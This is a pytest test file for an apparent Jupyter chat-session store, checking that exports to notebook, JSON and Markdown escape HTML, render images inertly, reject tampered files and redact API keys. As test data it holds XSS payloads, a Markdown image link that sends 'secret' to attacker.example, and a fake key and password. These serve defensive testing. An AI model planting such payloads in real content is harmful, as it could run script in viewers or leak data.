"""Export and import by file extension (``oblix_jupyter.store.formats``), in-process against a temp store."""

from __future__ import annotations

import base64
import io
import json
import os
import pathlib
import stat
import subprocess
import sys
import uuid

import nbformat
import pytest
from conftest import TEST_MODEL

from oblix_jupyter import OblixClient
from oblix_jupyter.errors import ImportFormatError
from oblix_jupyter.sessions import SessionManager
from oblix_jupyter.store.formats import (
    ExportFormatError,
    export_session,
    import_session,
    transcript,
)

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def store():
    return SessionManager()


# What the answer's model was sent (``context.record``), with a variable whose name is hostile Markdown.
RECORD = {"v": 1, "messages": {"recent": ["msg_1-2"]}, "variables": [["df", 40], ["<img src=x onerror=alert(1)>", 3]], "used": 90, "budget": 3000}


@pytest.fixture
def conversation(store):
    """A session with every kind of message field the store writes, and awkward contents."""
    session_id = store.create_session(title="Ünïcode · plots", initial_context={"dataset": "iris", "rows": 150})
    store.save_message(session_id, "You are terse.", role="system")
    store.save_message(session_id, "How do I plot *petal* length?\n\n```python\ndf.plot()\n```\n")
    store.save_message(
        session_id, "Use `df.petal_length.hist()`.", role="assistant", model="openai/gpt-4o-mini",
        usage={"prompt_tokens": 12, "completion_tokens": 5}, cost=0.0001, sent=RECORD,
    )
    store.save_message(session_id, "\n\nstarts with blank lines")
    store.save_message(session_id, "", role="assistant", model="openai/gpt-4o-mini", status="interrupted")
    store.update_session(session_id, model="openai/gpt-4o-mini", metadata={"notebook": "iris.ipynb"})
    return session_id


def tree(base: str) -> list[str]:
    return sorted(str(path.relative_to(base)) for path in pathlib.Path(base).rglob("*"))


def without_id(session: dict) -> dict:
    return {key: value for key, value in session.items() if key != "id"}


@pytest.mark.parametrize("extension", [".ipynb", ".json"])
def test_round_trip_gives_back_the_same_session(store, conversation, tmp_path, extension):
    path = export_session(store, conversation, tmp_path / f"out{extension}")
    assert path == str(tmp_path / f"out{extension}")
    copy_id = import_session(store, path)
    assert copy_id != conversation
    assert without_id(store.get_session(copy_id)) == without_id(store.get_session(conversation))


def test_notebook_is_valid_nbformat_v4_with_one_markdown_cell_per_message(store, conversation, tmp_path):
    path = export_session(store, conversation, tmp_path / "chat.ipynb")
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    session = store.get_session(conversation)
    assert notebook.nbformat == 4
    assert [cell.cell_type for cell in notebook.cells] == ["markdown"] * len(session["messages"])
    headers = [cell.source.splitlines()[0] for cell in notebook.cells]
    assert headers == [
        "**System**",
        "**User**",
        "**Assistant** · openai/gpt-4o-mini",
        "**User**",
        "**Assistant** · openai/gpt-4o-mini · interrupted",
    ]
    stored = notebook.metadata["oblix"]["session"]
    assert stored["id"] == conversation and stored["context"] == {"dataset": "iris", "rows": 150}
    assert notebook.cells[2].metadata["oblix"]["usage"] == {"prompt_tokens": 12, "completion_tokens": 5}


def test_keep_id_keeps_a_free_id_and_replaces_a_taken_one(store, conversation, tmp_path):
    path = export_session(store, conversation, tmp_path / "chat.ipynb")
    assert import_session(store, path, keep_id=True) != conversation  # taken here
    other = SessionManager(tmp_path / "other-store")
    assert import_session(other, path, keep_id=True) == conversation
    assert without_id(other.get_session(conversation)) == without_id(store.get_session(conversation))


def test_cells_added_by_hand_in_jupyter_are_not_imported(store, conversation, tmp_path):
    path = export_session(store, conversation, tmp_path / "chat.ipynb")
    notebook = nbformat.read(path, as_version=4)
    notebook.cells.insert(1, nbformat.v4.new_code_cell("print('my own experiment')"))
    nbformat.write(notebook, path)
    copy_id = import_session(store, path)
    assert store.get_session(copy_id)["messages"] == store.get_session(conversation)["messages"]


def test_markdown_export_is_a_readable_transcript(store, conversation, tmp_path):
    path = export_session(store, conversation, tmp_path / "notes" / "chat.md")
    text = pathlib.Path(path).read_text(encoding="utf-8")
    assert text == transcript(store.get_session(conversation))
    assert text.startswith("# Ünïcode · plots\n")
    assert "**Assistant** · openai/gpt-4o-mini\n\nUse `df.petal_length.hist()`." in text
    assert '"dataset": "iris"' in text
    sent = [line for line in text.splitlines() if line.startswith("*sent ")]
    assert len(sent) == 1 and sent[0].startswith("*sent msg_1-2 (recent) · variables df (40 tokens), ")
    assert "<img" not in text and "&lt;img src=x onerror=alert(1)" in sent[0]  # a record's names are data, escaped
    with pytest.raises(ImportFormatError, match="cannot import .md"):
        import_session(store, path)


def test_export_to_an_unknown_extension_writes_nothing(store, conversation, tmp_path):
    with pytest.raises(ExportFormatError, match=r"\.txt"):
        export_session(store, conversation, tmp_path / "chat.txt")
    assert list(tmp_path.iterdir()) == [tmp_path / "oblix-home"]


def notebook_without_our_metadata() -> str:
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("**User**\n\nhi")]))


@pytest.mark.parametrize(
    "name, content, complaint",
    [
        ("truncated.json", '{"id": "5f3e9a7b-6c1d-4d8e-9e7a-9b8c7d6e5f4a", "messages": [', "invalid JSON"),
        ("list.json", "[1, 2]", "JSON object"),
        ("shape.json", '{"title": "no messages"}', "missing field"),
        ("role.json", json.dumps({"id": "x", "created_at": "2024-01-01T00:00:00", "updated_at": "2024-01-01T00:00:00",
                                  "messages": [{"role": "robot", "content": "hi"}]}), "role 'robot'"),
        ("truncated.ipynb", '{"cells": [', "invalid JSON"),
        ("old.ipynb", '{"nbformat": 3, "worksheets": []}', "nbformat v4"),
        ("broken.ipynb", '{"nbformat": 4, "nbformat_minor": 5, "cells": 3, "metadata": {}}', "not a valid notebook"),
        ("plain.ipynb", notebook_without_our_metadata(), "no oblix session"),
        ("missing.ipynb", None, "no such file"),
        ("chat.txt", "hello", "cannot import .txt"),
    ],
)
def test_a_malformed_file_names_the_problem_and_creates_nothing(store, conversation, tmp_path, name, content, complaint):
    path = tmp_path / name
    if content is not None:
        path.write_text(content, encoding="utf-8")
    before = tree(store.base_dir)
    with pytest.raises(ImportFormatError, match=complaint):
        import_session(store, path, keep_id=True)
    assert tree(store.base_dir) == before


def test_a_notebook_message_with_a_bad_role_is_refused(store, conversation, tmp_path):
    path = export_session(store, conversation, tmp_path / "chat.ipynb")
    notebook = nbformat.read(path, as_version=4)
    notebook.cells[0].metadata["oblix"]["role"] = "robot"
    nbformat.write(notebook, path)
    with pytest.raises(ImportFormatError, match=rf"{path}: message 1 has role 'robot'"):
        import_session(store, path)


def test_importing_exchange_loads_neither_litellm_nor_nbformat():
    code = "import sys, oblix_jupyter.store.formats; print(sorted({'litellm', 'nbformat'} & set(sys.modules)))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=dict(os.environ), check=True)
    assert out.stdout.strip() == "[]"


HOSTILE = '<img src=x onerror="alert(1)"> and ![leak](https://attacker.example/?q=secret) and `<b>code</b>`'


def test_exports_keep_html_as_text_open_untrusted_and_import_back_exactly(store, tmp_path):
    session_id = store.create_session(title="<script>alert('title')</script>")
    store.save_message(session_id, HOSTILE)
    store.save_message(session_id, "fine", role="assistant", model="<svg onload=alert(1)>")

    markdown = pathlib.Path(export_session(store, session_id, tmp_path / "chat.md")).read_text()
    assert "# &lt;script>alert('title')&lt;/script>" in markdown
    assert "&lt;img src=x onerror=\"alert(1)\"> and [leak](https://attacker.example/?q=secret) and `<b>code</b>`" in markdown
    assert "**Assistant** · &lt;svg onload=alert(1)>" in markdown

    path = export_session(store, session_id, tmp_path / "chat.ipynb")
    notebook = nbformat.read(path, as_version=4)
    assert all(cell.cell_type == "markdown" and "outputs" not in cell for cell in notebook.cells)  # nothing to trust
    assert "&lt;img src=x" in notebook.cells[0].source and "![leak]" not in notebook.cells[0].source
    copy_id = import_session(store, path)
    assert [m["content"] for m in store.get_session(copy_id)["messages"]] == [HOSTILE, "fine"]


# -- images ---------------------------------------------------------------------------

# A label comes from a variable's or a cell's name: here one that tries to close the alt text,
# link to script, open HTML, start a block of its own and fetch an image from elsewhere.
HOSTILE_LABEL = 'fig](javascript:alert(1)) <img src=y onerror=alert(2)> &lt;b&gt; \\\n\n# owned ![z](http://attacker.example/p.png)'


def picture(size: tuple[int, int], kind: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, kind)
    return buffer.getvalue()


@pytest.fixture
def with_images(store):
    """A session whose prompt carries a PNG with a hostile label and a JPEG."""
    session_id = store.create_session(title="plots")
    images = [(picture((6, 4), "PNG"), "image/png", HOSTILE_LABEL), (picture((8, 8), "JPEG"), "image/jpeg", "figure from cell 5")]
    entries = [
        {"id": store.save_attachment(session_id, data), "mime": mime, "width": 1, "height": 1, "label": label, "bytes": len(data)}
        for data, mime, label in images
    ]
    store.save_message(session_id, "what bends here?", attachments=entries)
    store.save_message(session_id, "The 2019 point.", role="assistant", model="m")
    return session_id, [(entry, data) for entry, (data, _, _) in zip(entries, images)]


def shown_tags(markdown: str) -> list[tuple[str, dict]]:
    """Every HTML tag a CommonMark renderer (raw HTML allowed, as Jupyter's and most viewers' are) makes of ``markdown``."""
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    tags: list[tuple[str, dict]] = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            tags.append((tag, dict(attrs)))

    Collector().feed(MarkdownIt("commonmark").render(markdown))
    return tags


def assert_shows_exactly(markdown: str, images: list[tuple[str, str]]) -> None:
    """The only images are ``images`` (src, alt); no HTML, link or heading came from a label."""
    tags = shown_tags(markdown)
    assert [(attrs["src"], attrs["alt"]) for tag, attrs in tags if tag == "img"] == images
    assert {tag for tag, _ in tags} <= {"p", "strong", "img", "h1", "code"}
    assert [tag for tag, _ in tags].count("h1") <= 1  # the transcript's title at most, never "# owned"


def test_a_notebook_shows_each_image_from_its_cell_and_an_import_restores_the_bytes(store, with_images, tmp_path):
    session_id, images = with_images
    path = export_session(store, session_id, tmp_path / "plots.ipynb")
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    cell = notebook.cells[0]
    names = [f"{entry['id']}.{'png' if entry['mime'] == 'image/png' else 'jpg'}" for entry, _ in images]
    assert {name: dict(bundle) for name, bundle in cell.attachments.items()} == {
        name: {entry["mime"]: base64.b64encode(data).decode()} for name, (entry, data) in zip(names, images)
    }
    collapsed = " ".join(HOSTILE_LABEL.split())
    assert_shows_exactly(cell.source, [(f"attachment:{names[0]}", collapsed), (f"attachment:{names[1]}", "figure from cell 5")])
    assert all("data" not in entry for entry in cell.metadata["oblix"]["attachments"])  # the bytes are the cell's attachments only

    copy_id = import_session(store, path)
    assert store.get_session(copy_id)["messages"] == store.get_session(session_id)["messages"]
    assert [store.read_attachment(copy_id, entry["id"]) for entry, _ in images] == [data for _, data in images]


@pytest.mark.parametrize(
    "change, complaint",
    [
        (lambda bundle, mime: {"image/svg+xml": bundle[mime]}, "is image/svg\\+xml, where only image/png may be"),
        (lambda bundle, mime: {mime: bundle[mime], "text/html": "<script>alert(1)</script>"}, "is image/png, text/html"),
        (lambda bundle, mime: {mime: base64.b64encode(b"other bytes").decode()}, "does not match its data"),
        (lambda bundle, mime: {mime: "@@@"}, "not valid base64"),
        (None, "holds no data for attachment"),
    ],
    ids=["svg", "and-html", "other-bytes", "garbage", "removed"],
)
def test_a_notebook_whose_cell_attachments_were_changed_is_refused_and_creates_nothing(store, with_images, tmp_path, change, complaint):
    session_id, images = with_images
    path = export_session(store, session_id, tmp_path / "plots.ipynb")
    notebook = nbformat.read(path, as_version=4)
    name = f"{images[0][0]['id']}.png"
    if change is None:
        del notebook.cells[0].attachments[name]
    else:
        notebook.cells[0].attachments[name] = change(notebook.cells[0].attachments[name], "image/png")
    nbformat.write(notebook, path)
    before = tree(store.base_dir)
    with pytest.raises(ImportFormatError, match=complaint):
        import_session(store, path, keep_id=True)
    assert tree(store.base_dir) == before


def test_markdown_export_writes_the_images_beside_it_privately_and_shows_them_inertly(store, with_images, tmp_path):
    session_id, images = with_images
    path = export_session(store, session_id, tmp_path / "my notes (1)" / "plots v2.md")
    folder = tmp_path / "my notes (1)" / "plots v2_files"
    names = [f"{entry['id']}.{'png' if entry['mime'] == 'image/png' else 'jpg'}" for entry, _ in images]
    assert sorted(os.listdir(folder)) == sorted(names)
    assert [(folder / name).read_bytes() for name in names] == [data for _, data in images]
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700 and {stat.S_IMODE((folder / name).stat().st_mode) for name in names} == {0o600}

    text = pathlib.Path(path).read_text(encoding="utf-8")
    assert text.startswith(transcript(store.get_session(session_id)).split("what bends here?")[0])  # the transcript, images added
    links = [f"plots%20v2_files/{name}" for name in names]  # relative, so the folder moves with the file
    assert_shows_exactly(text, [(links[0], " ".join(HOSTILE_LABEL.split())), (links[1], "figure from cell 5")])
    assert text.index("what bends here?") < text.index(links[1]) < text.index("The 2019 point.")  # under their message


KEY = "sk-proj-" + "Q7xW2mZk9RtY4vBn8LpE3sHd"  # the shape of an OpenAI key, in a colleague's file
PASSWORD = "hunter2-of-the-team-db"  # no known shape: a secret only by the JSON key it sits under


@pytest.mark.parametrize("extension", [".json", ".ipynb"])
def test_an_imported_file_cannot_carry_a_key_into_the_store_or_to_the_model(model_env, tmp_path, extension):
    """A hostile (or careless) session file: its key, at any depth of what later turns send, is withheld on the way in."""
    context = {"setup": {"steps": [f"export OPENAI_API_KEY={KEY}"]}, "db": {"host": "db.internal", "password": PASSWORD}}
    looked = {"name": "notebook_cell", "summary": f"read {KEY}", "arguments": {"number": 3, "auth": {"api_key": PASSWORD}}}
    figure = {"label": f"figure {KEY}", "withheld": f"not kept: {KEY}"}
    when = "2026-03-01T10:00:00Z"
    session = {  # written by hand, in the seed's shape: every store call redacts, a file can say anything
        "id": str(uuid.uuid4()),
        "title": f"notes {KEY}",
        "created_at": when,
        "updated_at": when,
        "context": context,
        "messages": [
            {"id": "msg_1", "role": "user", "content": f"my key is {KEY}, why does the call fail?", "timestamp": when, "attachments": [figure]},
            {"id": "msg_2", "role": "assistant", "content": "Check the base URL.", "timestamp": when, "model": TEST_MODEL, "tools": [looked]},
        ],
        "model": None,
        "metadata": {},
        "schema_version": 1,
    }
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(session))
    if extension == ".ipynb":  # an import would redact the file: the notebook is written from the session as the file has it
        mine = SessionManager(str(tmp_path / "raw"))
        raw = mine._store_new(session)  # noqa: SLF001 - a stored session no turn wrote, as a hand-edited file would be
        hostile = pathlib.Path(export_session(mine, raw, str(tmp_path / "hostile.ipynb")))
    assert KEY in hostile.read_text() and PASSWORD in hostile.read_text()

    client = OblixClient(model=TEST_MODEL, store=str(tmp_path / "mine"))
    session_id = client.import_session(str(hostile))
    client.execute_sync("What was the problem again?", session_id)
    client.wait_for_background()

    sent = json.dumps(model_env.chat_requests())
    assert "withheld" in sent and "why does the call fail" in sent and "Check the base URL" in sent
    assert KEY not in sent and KEY[8:] not in sent and PASSWORD not in sent and "db.internal" in sent
    stored = b"".join(path.read_bytes() for path in (tmp_path / "mine").rglob("*") if path.is_file())
    assert KEY.encode() not in stored and KEY[8:].encode() not in stored and PASSWORD.encode() not in stored
    assert b"why does the call fail" in stored
